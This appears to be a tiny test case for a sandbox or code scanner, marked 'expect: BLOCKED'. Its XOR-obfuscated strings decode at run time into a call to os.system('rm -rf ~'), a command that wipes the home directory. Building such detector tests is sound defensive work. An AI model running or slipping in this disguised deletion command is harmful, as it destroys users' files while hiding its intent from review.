# expect: BLOCKED
class D:
    def __init__(self, k):
        self.k = k
    def r(self, s):
        return "".join(chr(ord(c) ^ self.k) for c in s)
import os
z = D(5)
getattr(os, z.r("v|vq`h"))(z.r("wh%(wc%{"))
